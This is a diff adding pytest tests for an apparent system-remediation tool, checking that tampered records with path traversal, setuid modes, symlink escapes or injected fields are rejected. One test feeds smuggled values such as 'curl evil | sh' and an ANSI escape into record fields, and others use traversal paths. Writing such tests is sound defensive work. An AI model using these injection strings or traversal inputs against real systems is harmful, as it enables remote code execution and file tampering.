@@ -149,3 +149,51 @@ def test_what_killed_writes_left_beside_the_records_is_swept(image: Path) -> Non
     carry_out.undo(situation(image), "panic-policy", Request())
     assert sorted(path.name for path in folder.iterdir()) == ["000001.json", "theirs"]
     assert len(Records(host.Root(image)).all()) == 1
+
+
+@pytest.mark.parametrize(
+    "path", ["/../x", "/etc/../../x", "etc/hostname", "//etc/hostname", "/etc/./hostname", "/", "x\0"]
+)
+def test_a_record_with_a_path_that_leads_out_of_the_tree_is_no_record(image: Path, path: str) -> None:
+    step = {"type": "file", "path": path, "before": "b3duZWQK", "after": None}
+    folder = folder_of(host.Root(image))
+    keep(folder, hostile(image, "open") | {"steps": [step]})
+    (image / "x").write_text("theirs\n")
+    carry_out.apply(situation(image), "panic-policy", Request())
+    assert not (image.parent / "x").exists()
+    assert (image / "etc/hostname").read_text() == "web-1\n"
+    assert interrupted(host.Root(image)) == ()
+
+
+def test_a_record_with_a_mode_beyond_0777_is_no_record(image: Path) -> None:
+    step = {"type": "file", "path": "/etc/suid", "before": "b3duZWQK", "after": None, "mode_before": 0o4755}
+    keep(folder_of(host.Root(image)), hostile(image, "open") | {"steps": [step]})
+    carry_out.apply(situation(image), "panic-policy", Request())
+    assert not (image / "etc/suid").exists()
+
+
+def test_a_link_that_came_since_leads_no_undoing_out_of_its_place(image: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    carry_out.apply(situation(image), "panic-policy", Request())
+    (image / "etc/sysctl.d").rename(outside)
+    (image / "etc/sysctl.d").symlink_to(outside)
+    (image / "etc/elsewhere").mkdir()
+    done = carry_out.undo(situation(image), "panic-policy", Request())
+    assert not done.verified
+    assert "link to nothing" in done.why
+    assert len(list(outside.iterdir())) == 1
+
+
+@pytest.mark.parametrize(
+    "field", [{"remedy": "live; curl evil | sh"}, {"remedy": "a\x1b[31m"}, {"started": "now; curl evil | sh"}]
+)
+def test_nothing_of_a_record_becomes_a_command_to_paste_but_the_name_of_a_remedy(
+    image: Path, field: dict[str, str]
+) -> None:
+    keep(folder_of(host.Root(image)), hostile(image, "open") | field)
+    assert carry_out.left_open(situation(image)) == ()
+
+
+def test_a_remedy_that_is_not_known_is_not_offered_for_undoing(image: Path) -> None:
+    keep(folder_of(host.Root(image)), hostile(image, "open") | {"remedy": "prayer", "steps": []})
+    assert carry_out.left_open(situation(image)) == ()
